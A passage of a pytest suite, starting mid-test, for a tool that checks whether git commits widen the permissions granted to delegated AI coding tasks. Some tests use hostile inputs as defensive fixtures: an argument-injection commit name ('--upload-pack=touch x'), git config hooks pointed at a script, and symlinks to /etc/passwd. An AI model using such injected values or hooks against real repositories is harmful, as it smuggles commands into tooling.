    base = BASE.replace('"Look."', '"Look."\npaste = ["**", "!secrets"]')
    assert repo.widened(base.replace(', "!secrets"', ""), base) == {("sends", "tasks.look.paste")}
    assert not repo.widened(base.replace('"!secrets"', '"!secrets", "!more"'), base)


# -- ceilings ----------------------------------------------------------------------------------------


def test_ceilings_hold_for_every_task_at_head_and_numbers_may_not_ask_for_more(
    repo: Changing, tmp_path: Path
) -> None:
    policy = tmp_path / "ceilings.toml"
    policy.write_text('max_level = "read-only"\nverify = ["*"]\nmax_tokens = 500\nmax_depth = 0\n')
    repo.put({"delegate.toml": BASE + "[delegation]\nmax_depth = 2\n"})
    found = repo.compared("HEAD", policy=(str(policy),))
    assert [(one.key, one.line) for one in found.breaches] == [
        ("tasks.fix", 14), ("defaults.limits.tokens", 5), ("delegation.max_depth", 30)
    ]  # fmt: skip
    own = BASE.replace("[tasks.look]\n", "[tasks.look]\nlimits = { tokens = 10 }\n")
    repo.put({"delegate.toml": own})
    told = repo.compared("HEAD", policy=(str(policy),)).breaches
    assert [one.key for one in told] == ["tasks.fix", "defaults.limits.tokens"], "whatever the last task says"
    assert found.breaches[1].after == f"`tokens` is 1000, and {policy} allows 500 in `max_tokens`"


def test_a_policy_of_the_repository_is_read_where_no_pull_request_can_change_it(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE, "ci/policy.toml": 'max_level = "read-only"\nverify = ["*"]\n'})
    repo.put({"ci/policy.toml": 'max_level = "danger-full-access"\nverify = ["*"]\n'})
    found = repo.compared(policy=("ci/policy.toml",))
    assert [one.key for one in found.breaches] == ["tasks.fix"]
    assert [(one.effect, one.file) for one in found.changes] == [("widens", "ci/policy.toml")], "is told"
    other = repo.root.parent / "other"
    other.symlink_to(repo.root)
    assert repo.compared(policy=(f"{other}/ci/policy.toml",)).breaches
    repo.remove("ci")
    repo.link("ci", "/etc")
    assert repo.compared(policy=("ci/policy.toml",)).breaches, "the work tree does not matter"
    with pytest.raises(UsageError, match=r"ci/other\.toml: no such file at HEAD~1, where") as caught:
        repo.compared(policy=("ci/other.toml",))
    assert (caught.value.hint or "").startswith("commit one to HEAD~1 first, with such as `network = false`")
    with pytest.raises(UsageError, match="no such file"):
        repo.compared(policy=("/nowhere/policy.toml",))


@pytest.mark.parametrize("how", ["link", "folder", "variable", "chain"])
def test_a_policy_of_the_machine_that_lies_in_the_repository_is_read_there_too(
    repo: Changing, how: str
) -> None:
    narrow = 'max_level = "read-only"\nverify = ["*"]\n'
    repo.put({"delegate.toml": BASE, "ci/runner/policy.toml": narrow})
    repo.put({"ci/runner/policy.toml": narrow.replace("read-only", "danger-full-access")})
    own, env = Path(f"{repo.root}.home/.config"), {"HOME": f"{repo.root}.home"}
    (own / "runner").mkdir(parents=True)
    if how == "folder":
        (own / "runner").rmdir()
        (own / "runner").symlink_to(repo.root / "ci/runner")
    elif how == "variable":
        env["XDG_CONFIG_HOME"] = f"{repo.root}/ci"
    else:
        (own / "runner/policy.toml").symlink_to(repo.root / "ci/runner/policy.toml")
    if how == "chain":  # what HEAD makes of the folder leads out again
        repo.git("mv", "ci/runner", "ci/other")
        (repo.root.parent / "wide").mkdir()
        (repo.root.parent / "wide/policy.toml").write_text('verify = ["*"]\n')
        repo.link("ci/runner", f"{repo.root.parent}/wide")
        repo.put({})
    found = compare(str(repo.root), env, (f"HEAD~{1 + (how == 'chain')}", None), None, ())
    assert [one.key for one in found.breaches] == ["tasks.fix"]
    assert ("trust", "ci/runner/policy.toml") in {(one.rule, one.file) for one in of(found, WIDENS)}


def test_a_base_of_long_ago_does_not_bring_its_ceilings_back(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE, "policy.toml": 'verify = ["*"]\n'})
    repo.git("branch", "old")
    repo.put({"policy.toml": 'max_level = "read-only"\nverify = ["*"]\n'})
    repo.git("branch", "main-now")
    repo.git("checkout", "-q", "old")
    repo.put({"x": "y"})
    found = repo.compared("main-now", policy=("policy.toml",))
    assert found.breaches and found.base.commit == repo.says("rev-parse", "HEAD~1").strip()


def test_a_policy_that_is_wrong_is_an_error_and_no_missing_ceiling(repo: Changing, tmp_path: Path) -> None:
    (tmp_path / "p.toml").write_text("max_levle = 1\n")
    repo.put({"delegate.toml": BASE})
    with pytest.raises(ConfigInvalid) as error:
        repo.compared("HEAD", policy=(f"{tmp_path}/p.toml",))
    assert "max_levle" in error.value.problems[0]
    repo.put({"p.toml": "max_levle = 1\n"})
    with pytest.raises(ConfigInvalid) as error:
        repo.compared("HEAD", policy=("p.toml",))
    assert error.value.problems[0].startswith("HEAD:p.toml:1:1: max_levle")


# -- commits -----------------------------------------------------------------------------------------


def test_head_is_compared_with_where_it_left_base(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE})
    repo.git("branch", "feature")
    repo.put({"delegate.toml": edited(('"1h"', '"30m"'))}, "main got narrower")
    repo.git("branch", "main-now")
    repo.git("checkout", "-q", "feature")
    repo.put({"x": "y"})
    assert repo.compared("main-now").changes == () == repo.compared("main-now...HEAD").changes
    assert [one.effect for one in repo.compared("main-now..").changes] == [WIDENS]
    assert repo.compared("main-now", "feature").changes == ()


def test_where_head_has_left_base_twice_base_itself_counts(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE})
    for name in ("one", "two"):
        repo.git("checkout", "-q", "-b", name)
        repo.put({name: "x"})
    repo.git("checkout", "-q", "-b", "apart", "one~1")
    repo.put({"delegate.toml": edited(('"1h"', '"2h"'))}, "wider for a while")
    repo.git("branch", "wide")
    repo.git("merge", "-q", "-m", "m", "two")
    repo.git("checkout", "-q", "two")
    repo.git("merge", "-q", "-m", "m", "wide")
    repo.put({"delegate.toml": BASE}, "as it was")
    assert len(repo.says("merge-base", "--all", "two", "apart").split()) == 2
    found = repo.compared("two", "apart")
    assert found.base.commit == repo.says("rev-parse", "two").strip()
    assert [one.rule for one in of(found, WIDENS)] == ["budget"]


@pytest.mark.parametrize("name", ["--upload-pack=touch x", "nothing", "", "HEAD^{tree}", "-x", "a..b..c"])
def test_what_is_no_commit_is_an_error(repo: Changing, name: str) -> None:
    repo.put({"delegate.toml": BASE})
    with pytest.raises(UsageError, match="is no commit of"):
        repo.compared(name, "HEAD")


def test_a_shallow_clone_is_told_what_to_fetch(repo: Changing, tmp_path: Path) -> None:
    repo.put({"delegate.toml": BASE})
    first = repo.says("rev-parse", "HEAD").strip()
    repo.put({"x": "y"})
    shallow = Work(tmp_path / "s")
    shallow.git("fetch", "-q", "--depth=1", f"file://{repo.root}", "HEAD")
    shallow.git("checkout", "-q", "FETCH_HEAD")
    with pytest.raises(UsageError) as error:
        compare(str(shallow.root), {"HOME": "/none"}, (first, None), None, ())
    assert "git fetch --unshallow" in str(error.value.hint)
    shallow.git("fetch", "-q", "--depth=1", f"file://{repo.root}", first)
    with pytest.raises(UsageError, match="nothing here says where HEAD left") as error:
        compare(str(shallow.root), {"HOME": "/none"}, (first, None), None, ())
    assert f"`{first}..HEAD` compares" in str(error.value.hint)
    assert compare(str(shallow.root), {"HOME": "/none"}, (f"{first}..HEAD", None), None, ()).changes == ()


def test_what_a_shallow_clone_lacks_hides_no_widening(repo: Changing, tmp_path: Path) -> None:
    """HEAD has merged an older commit of BASE, which seems to be the only one that both have."""
    wide = edited(('"1h"', '"2h"'))
    repo.put({"delegate.toml": wide})
    repo.git("branch", "side")
    repo.put({"delegate.toml": BASE}, "narrower")
    repo.git("branch", "target")
    for n in range(5):
        repo.put({f"x{n}": "y"})
    repo.put({"delegate.toml": wide})
    repo.git("branch", "pull")
    repo.git("checkout", "-q", "side")
    repo.put({"side": "y"})
    repo.git("checkout", "-q", "pull")
    repo.git("merge", "-q", "-s", "ours", "-m", "merge", "side")
    assert of(repo.compared("target", "pull"), WIDENS)
    for depth, is_whole in ((4, False), (20, True)):
        clone = f"{tmp_path}/depth{depth}"
        repo.git("clone", "-q", f"--depth={depth}", "--no-single-branch", f"file://{repo.root}", clone)
        span = ("origin/target", "origin/pull")
        if is_whole:
            assert of(compare(clone, {"HOME": "/none"}, span, None, ()), WIDENS)
            continue
        with pytest.raises(UsageError, match="nothing here says where HEAD left") as error:
            compare(clone, {"HOME": "/none"}, span, None, ())
        assert "git fetch --unshallow" in str(error.value.hint)


def test_a_folder_without_a_repository_is_told_so(tmp_path: Path) -> None:
    with pytest.raises(RunnerError, match="not a git repository"):
        compare(str(tmp_path), {"HOME": "/none"}, ("HEAD", None), None, ())


def test_a_bare_repository_and_a_linked_work_tree_are_as_good(repo: Changing, tmp_path: Path) -> None:
    repo.put({"delegate.toml": BASE, "p.toml": 'max_level = "read-only"\nverify = ["*"]\n'})
    repo.put({"delegate.toml": edited(('network = ["a.example.org"]', "network = true"))})
    repo.git("clone", "-q", "--bare", ".", f"{tmp_path}/bare")
    repo.git("worktree", "add", "-q", f"{tmp_path}/w\nx %y", "HEAD")
    for place in ("bare", "w\nx %y"):
        found = compare(f"{tmp_path}/{place}", {"HOME": "/none"}, ("HEAD~1", None), None, ("p.toml",))
        assert [one.rule for one in of(found, WIDENS)] == ["network"] and found.breaches


def test_nothing_that_the_repository_says_to_git_is_obeyed(repo: Changing, tmp_path: Path) -> None:
    repo.put(
        {"delegate.toml": BASE, ".gitattributes": "* diff=x filter=x text eol=crlf\ndelegate.toml -filter\n"}
    )
    repo.put({"delegate.toml": edited(('"1h"', '"2h"'))})
    told, mark = repo.compared(), tmp_path / "ran"
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\ntouch {mark}\ncat\n")
    program.chmod(0o755)
    names = (
        "core.fsmonitor",
        "core.pager",
        "diff.external",
        "diff.x.textconv",
        "filter.x.smudge",
        "alias.ls-tree",
    )
    for name in (*names, "pager.ls-tree", "core.sshCommand", "diff.x.command", "filter.x.process"):
        repo.git("config", name, f"!{program}" if name.startswith("alias") else str(program))
    assert repo.compared() == told and not mark.exists()
    repo.git("replace", "HEAD~1:delegate.toml", "HEAD:delegate.toml", ok=False)
    repo.git("replace", "HEAD~1", "HEAD")
    assert repo.compared().changes == told.changes, "history is as it is"


@pytest.mark.parametrize("suffix", ["", "~0", "^{commit}"])
def test_a_name_that_is_a_tag_and_a_branch_is_refused_with_both(repo: Changing, suffix: str) -> None:
    repo.put({"delegate.toml": BASE})
    repo.git("update-ref", "refs/remotes/origin/main", "HEAD")
    repo.put({"delegate.toml": edited(('"1h"', '"2h"'))})
    assert of(repo.compared(f"origin/main{suffix}"), WIDENS)
    repo.git("config", "core.warnAmbiguousRefs", "false")
    repo.git("tag", "origin/main", "HEAD")
    with pytest.raises(UsageError, match="is ambiguous") as error:
        repo.compared(f"origin/main{suffix}")
    assert error.value.hint == "say which: refs/remotes/origin/main, refs/tags/origin/main"
    assert of(repo.compared("refs/remotes/origin/main"), WIDENS)
    for name in ("HEAD", first := repo.says("rev-parse", "HEAD~1").strip(), first[:12]):
        repo.git("update-ref", f"refs/tags/{name}", "HEAD")
    assert of(repo.compared(first, "HEAD"), WIDENS), "git takes a whole name for what it is"
    with pytest.raises(UsageError, match="is ambiguous"):
        repo.compared(first[:12])


# -- what a checkout makes ---------------------------------------------------------------------------


@pytest.mark.parametrize("rule", ["working-tree-encoding=SJIS", "ident", "filter=lfs"])
def test_what_git_makes_at_checkout_is_an_error_of_settings_and_told_of_a_script(
    repo: Changing, rule: str, tmp_path: Path
) -> None:
    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n"})
    repo.put({".gitattributes": f"ci/* {rule}\n"})
    name = rule.partition("=")[0]
    ((one),) = repo.compared().changes
    assert (one.effect, one.rule, one.file) == (WIDENS, "script", "ci/test.sh")
    assert f"its content is made at checkout (`{name}`)" in str(one.after)
    repo.put({"x": "y"})
    assert repo.compared().changes == (), "as it was"
    repo.put({".gitattributes": f"[attr]odd {rule}\n*.toml odd\n"})
    repo.write(".git/info/attributes", f"* -{name}\n")
    with pytest.raises(ConfigInvalid) as error:
        repo.compared()
    made = f"its content is made at checkout: take the attribute `{name}` away"
    assert error.value.problems == (f"HEAD:delegate.toml: {made}",)
    repo.git("clone", "-q", "--bare", ".", f"{tmp_path}/bare")
    with pytest.raises(ConfigInvalid):
        compare(f"{tmp_path}/bare", {"HOME": "/none"}, ("HEAD~1", None), None, ())


def test_line_ends_are_told_of_a_script_and_mean_nothing_in_settings(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n"})
    repo.put({".gitattributes": "* text=auto eol=lf\n"})
    assert repo.compared().changes == ()
    repo.put({".gitattributes": "* text=auto eol=crlf\n"})
    ((one),) = repo.compared().changes
    assert (one.effect, one.rule, one.file) == (WIDENS, "script", "ci/test.sh")


def test_rules_of_this_machine_make_nothing(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n"})
    repo.put({".gitattributes": "*.toml eol=crlf\n*.png filter=lfs -text\nci/* !ident -filter\n"})
    repo.write(".git/info/attributes", "* ident\n")
    repo.write("mine", "* filter=x\n")
    repo.git("config", "core.attributesFile", f"{repo.root}/mine")
    assert repo.compared().changes == ()
    assert repo.says("status", "--porcelain") == "?? mine\n"


# -- files -------------------------------------------------------------------------------------------


def test_without_settings_at_base_all_of_head_is_new(repo: Changing) -> None:
    repo.put({"x": "y"})
    repo.put({"delegate.toml": BASE})
    found = repo.compared()
    assert found.notes == ("HEAD~1 has no settings: all of HEAD counts as new",)
    assert {"level", "host", "env", "program"} <= {one.rule for one in of(found, WIDENS)}
    assert (found.base.file, found.base.trust) == (None, None)


def test_settings_that_are_wrong_at_base_are_as_none(repo: Changing) -> None:
    repo.put({"delegate.toml": "[tasks.x]\nsandbox = 5\n"})
    repo.put({"delegate.toml": BASE})
    found = repo.compared()
    assert found.notes == ("HEAD~1 has settings that are wrong: all of HEAD counts as new",)
    assert of(found, WIDENS)


def test_without_settings_at_head_everything_is_gone(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE})
    repo.put({"delegate.toml": None})
    found = repo.compared()
    assert found.head.file is None and {("gone", "tasks.fix"), ("gone", "tasks.look")} <= {
        (one.rule, one.key) for one in found.changes
    }
    assert all(one.is_gone for one in found.changes if one.line)


def test_settings_that_are_wrong_at_head_are_an_error_with_their_places(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE})
    repo.put({"delegate.toml": BASE + "oops = 1\n", "delegate.local.toml": "x = 1\n"})
    with pytest.raises(ConfigInvalid, match="2 problems at HEAD") as error:
        repo.compared()
    assert error.value.problems[0].startswith("HEAD:delegate.toml:29:1: pipelines.ship.stages")
    assert error.value.problems[1] == "HEAD:delegate.local.toml: is tracked by git"


def test_a_file_that_was_not_in_force_before_is_told_and_counts_as_new(repo: Changing) -> None:
    repo.put({"a.toml": BASE})
    repo.git("mv", "a.toml", "b.toml")
    repo.put({"b.toml": edited(('"1h"', '"2h"'))})
    found = repo.compared(config="b.toml")
    assert found.notes[1:] == ("b.toml was a.toml before, where it was not in force",)
    assert {"level", "env"} <= {one.rule for one in of(found, WIDENS)}


def test_the_settings_of_a_folder_are_the_nearest_of_each_commit(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE, "shop/x": ""})
    repo.put({"shop/delegate.toml": edited(('"1h"', '"2h"'))})
    found = compare(f"{repo.root}/shop", {"HOME": "/none"}, ("HEAD~1", None), None, ())
    assert (found.base.file, found.head.file) == ("delegate.toml", "shop/delegate.toml")
    assert [one.rule for one in of(found, WIDENS)] == ["budget"]
    (one,) = repo.compared().changes
    assert (one.rule, one.file, one.after) == (
        *("trust", "shop/delegate.toml", "not looked at; `--config shop/delegate.toml` does"),
    )
    assert repo.compared(config="delegate.toml").changes == ()
    with pytest.raises(UsageError, match="expected a file of"):
        repo.compared(config="../delegate.toml")
    for name in ("shop/delgate.toml", "none/delegate.toml"):
        with pytest.raises(UsageError, match=r"no such file at HEAD~1 or HEAD"):
            repo.compared(config=name)


def test_settings_of_other_folders_that_go_or_lead_elsewhere_are_told(repo: Changing) -> None:
    def told() -> list[tuple[str, str, bool]]:
        return [(one.rule, one.key, one.is_gone) for one in repo.compared().changes if one.effect == WIDENS]

    narrow = edited(('"1h"', '"30m"'))
    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n", "common.toml": narrow, "a/b/x": ""})
    repo.write("pkg/delegate.toml", narrow)
    repo.link("a/delegate.toml", "../common.toml")
    repo.put({})
    assert told() == [("trust", "a/delegate.toml", False), ("trust", "pkg/delegate.toml", False)]
    repo.put({"common.toml": BASE})
    assert told() == [("trust", "a/delegate.toml", False)]
    repo.put({".gitattributes": "common.toml ident\n"})
    assert told() == [("trust", "a/delegate.toml", False)]
    repo.put({".gitattributes": None, "pkg/delegate.toml": None})
    assert told() == [("trust", "a/delegate.toml", False), ("trust", "pkg/delegate.toml", True)]
    found = repo.compared(config="pkg/delegate.toml")
    assert found.head.file == "delegate.toml" and [one.rule for one in of(found, WIDENS)] == ["budget"]
    assert not of(found, NARROWS)
    repo.put({"pkg/delegate.local.toml": "x = 1\n"})
    assert told() == [("trust", "pkg/delegate.local.toml", False)]
    repo.put({"pkg/delegate.local.toml": None})
    assert told() == []


def test_a_link_is_followed_inside_of_the_commit_and_nowhere_else(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE, "conf/real.toml": edited(('"1h"', '"2h"'))})
    repo.remove("delegate.toml")
    repo.link("delegate.toml", "conf/../conf/./real.toml")
    repo.put({})
    assert [one.rule for one in of(repo.compared(), WIDENS)] == ["budget"]
    assert repo.compared().head.file == "conf/real.toml", "its lines are of that file"
    for target in ("/etc/passwd", "../x", "delegate.toml", "conf"):
        repo.remove("delegate.toml")
        repo.link("delegate.toml", target)
        repo.put({})
        with pytest.raises(ConfigInvalid) as error:
            repo.compared()
        assert error.value.problems == ("HEAD:delegate.toml: leads to no file of this commit",)


def test_only_what_the_repository_brings_counts(repo: Changing, monkeypatch: pytest.MonkeyPatch) -> None:
    repo.put({"delegate.toml": BASE})
    repo.put({"delegate.toml": edited(('"1h"', '"2h"'))})
    told = repo.compared()
    monkeypatch.setenv("RUNNER_DEFAULTS__TIMEOUT", "2h")
    user = Path(f"{repo.root}.home/.config/runner")
    user.mkdir(parents=True)
    (user / "config.toml").write_text('[defaults]\ntimeout = "2h"\n')
    repo.write("delegate.local.toml", "not even TOML")
    assert repo.compared() == told


def test_a_path_may_have_any_name(repo: Changing) -> None:
    name = "a b%2F\n'x\"/delegate.toml"
    repo.put({name: BASE})
    repo.put({name: edited(('"1h"', '"2h"'))})
    found = repo.compared(config=name)
    assert found.head.file == name and [one.line for one in of(found, WIDENS)] == [3]


def test_every_table_is_compared(repo: Changing) -> None:
    """Beside those that say nothing of what runs may do."""
    lines = {
        "defaults": "retries = 1",
        "runtimes": "codex.isolated = false",
        "models": 'x.model = "y"',
        "sandboxes": 'x.level = "read-only"',
        "executors": 'x.kind = "slurm"',
        "delegation": "max_children = 9",
        "recovery": "api_retries = 9",
        "delegate": "max_failures = 9",
        "economics": "unit = 9",
        "host": 'level = "guide"',
        "git": 'owner = "runner"',
        "blocks": 'x.text = "y"',
        "tasks": 'x.prompt = "y"',
        "pipelines": 'y.stages = [{ name = "a", tasks = ["x"] }]',
    }
    assert {*schema.keys_at(())} - lines.keys() == {"schema_version", "notify"}
    base = 'schema_version = 1\n[runtimes.codex]\nisolated = true\n[tasks.x]\nprompt = "z"\n'
    text = "schema_version = 1\n" + "".join(f"[{table}]\n{line}\n" for table, line in lines.items())
    found = {one.key.partition(".")[0] for one in repo.both(base, text).changes}
    assert found == lines.keys()


WHOLE = """\
schema_version = 1
[defaults]
runtime = "codex"
model = "m"
sandbox = "s"
timeout = "1h"
limits = { tokens = 9, tree_tokens = 9, warn_at = 0.5, repeats = 9, reconnects = 9, price = 9.5 }
verify = [["a"]]
[runtimes.codex]
command = "codex"
version = ">=0.1"
env = ["A"]
isolated = true
config = { a = 1, b = [1], c = { d = true }, mcp_servers = { x = { command = "y" } } }
[runtimes.kay]
provider = "oss"
[runtimes.acp]
command = "x"
args = ["a"]
permissions = "ask"
permission_timeout = "1m"
[models.m]
model = "a"
runtime = "codex"
reasoning_effort = "low"
provider = "oss"
price = { input = 1.5, cached = 1.5, output = 1.5 }
[sandboxes.s]
level = "workspace-write"
network = ["a.org"]
writable = ["/w"]
allow_danger = false
deny_read = ["x"]
[executors.s]
kind = "ssh"
hosts = ["a"]
slots = 2
[executors.e]
kind = "slurm"
partition = "p"
account = "a"
qos = "q"
constraint = "c"
cpus = 2
memory = "2G"
gpus = 1
time = "1h"
max_pending = "1h"
max_running = 2
requeue = false
options = { nice = "10", hint = "x" }
[delegation]
enabled = true
server = "inline"
tools = ["status"]
max_depth = 2
max_children = 2
tasks = ["t"]
on_parent_end = "leave"
skills = false
[recovery]
ladder = ["fresh"]
api_retries = 2
backoff = "1s"
backoff_max = "1m"
[delegate]
decision = "ask"
soft_cap = 4
hard_cap = 9
oversize = "keep"
balance = true
trivial = "local"
hub_files = ["a"]
effort_floor = "low"
max_parallel = 2
max_failures = 2
files = "strict"
commit = "x"
commit_message = "{title}"
[economics]
fixed = 1
batch = 1
unit = 1
[host]
task = "t"
level = "guide"
may_edit = ["a/**"]
[git]
owner = "human"
[blocks.b]
text = "x"
[tasks.t]
executor = "e"
title = "T"
prompt = "x"
blocks = ["b"]
files = ["a"]
paste = ["b"]
map = "m.md"
runtime = "codex"
model = "m"
sandbox = "s"
verify = [["a"]]
verify_timeout = "1m"
prepare = [["b"]]
prepare_timeout = "1m"
timeout = "1h"
idle_timeout = "1m"
start_timeout = "1m"
grace = "1s"
open = true
open_timeout = "1m"
start = "on_handoff"
rehearse = "r.toml"
delegation = true
scope = ["a/**"]
workspace = "worktree"
on_failure = "keep"
on_conflict = "queue"
output_contract = "findings"
conformance = "enforce"
protect = ["b"]
verify_from = "base"
expects_change = false
retries = 2
limits = { tokens = 9, tree_tokens = 9, warn_at = 0.5, repeats = 9, reconnects = 9, price = 9.5 }
patterns = ["a"]
approach = "x"
execution_note = "x"
constraints = ["x"]
testing = ["x"]
[tasks.f]
prompt_file = "p.md"
model = "m"
sandbox = "s"
workspace = "worktree"
[tasks.look]
prompt = "x"
sandbox = "read-only"
model = "a"
output_contract = "findings"
[tasks.other]
prompt = "x"
runtime = "claude"
model = "b"
sandbox = "read-only"
output_contract = "findings"
[[pipelines.p.stages]]
name = "plan"
plan = "p.md"
task = "f"
needs = []
gate = { commands = [["a"]], approve = true }
[[pipelines.p.stages]]
name = "review"
tasks = ["look"]
gate = { no_findings = "minor" }
repair = { task = "f", severity = "minor", max_rounds = 2 }
[[pipelines.p.stages]]
name = "both"
compare = { a = "look", b = "other", task = "look", pattern = "parallel", passes = 2 }
[[pipelines.p.stages]]
name = "person"
person = true
prompt = "x"
gate = "approve"
[pipelines.p]
title = "x"
input = ["name"]
"""


def _side(text: str) -> Side | None:
    """As `compare` makes one of a commit. None where the text is wrong."""
    places = ConfigFiles(*("/r", "/r/delegate.toml", "/r/l", "/r/u", "/r/p", "/r/s", "/h"), required=False)
    done = compile_settings(places, {}, (), given={"/r/delegate.toml": text.encode()})
    return None if done.problems else side_of(done)


def _leaves(table: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    items = table.items() if isinstance(table, dict) else enumerate(table)
    for key, value in items:
        yield (*path, key)
        if isinstance(value, dict) or (isinstance(value, list) and value and isinstance(value[0], dict)):
            yield from _leaves(value, (*path, key))


def _changed(value: Any) -> Any:
    if isinstance(value, bool):
        return not value
    others = {
        "workspace-write": "danger-full-access",
        "1h": "none",
        "1m": "9m",
        "codex": "kay",
        "p.md": "q.md",
    }
    return (
        others.get(value, f"{value}x")
        if isinstance(value, str)
        else value + 1
        if isinstance(value, (int, float))
        else []
    )


def test_every_key_may_come_change_and_go() -> None:
    """No value of any type breaks the comparison, nor how it is told."""
    whole, base = tomllib.loads(WHOLE), _side(WHOLE)
    assert base is not None
    paths = [*_leaves(whole)]
    there = {(path[0], path[-1]) for path in paths}
    held = [path[:-1] for path in paths if path[:-1] not in ((), ("runtimes",)) and path[0] != "defaults"]
    keys = {(path[0], key) for path in held for key in schema.keys_at(path)}
    assert keys <= there, "no key of the schema is left out"
    for path in [path for path in paths if path[:2] not in (("tasks", "look"), ("tasks", "other"))]:
        for is_gone in (True, False):
            text = copy.deepcopy(whole)
            table: Any = text
            for part in path[:-1]:
                table = table[part]
            if is_gone:
                del table[path[-1]]
            else:
                table[path[-1]] = _changed(table[path[-1]])
            if (other := _side(tomlkit.dumps(text))) is not None:
                told = [one.to_json() for pair in ((base, other), (other, base)) for one in changes(*pair)]
                assert dumps(told) and (told or is_gone or path[-1] in ("title", "needs")), path


def test_two_thousand_tasks_are_compared_in_reasonable_time(repo: Changing) -> None:
    tasks = "".join(f'[tasks.t{n}]\nprompt = "x"\nsandbox = "build"\n' for n in range(2000))
    found = repo.both(BASE + tasks, edited(('"1h"', '"2h"')) + tasks)
    ((one),) = of(found, WIDENS)
    assert len(one.tasks) == 2002


def test_thousands_of_globs_of_thousands_of_tasks_are_compared_in_reasonable_time(repo: Changing) -> None:
    globs = [f"src/a{n}/**" for n in range(2000)]
    tasks = "".join(f'[tasks.t{n}]\nprompt = "x"\n' for n in range(500))
    base, text = (f"[defaults]\nscope = {dumps(some)}\n{tasks}" for some in (globs, [*globs[1:], "b"]))
    ((one),) = of(repo.both(base, text), WIDENS)
    assert (one.after, len(one.tasks)) == ("b", 500)
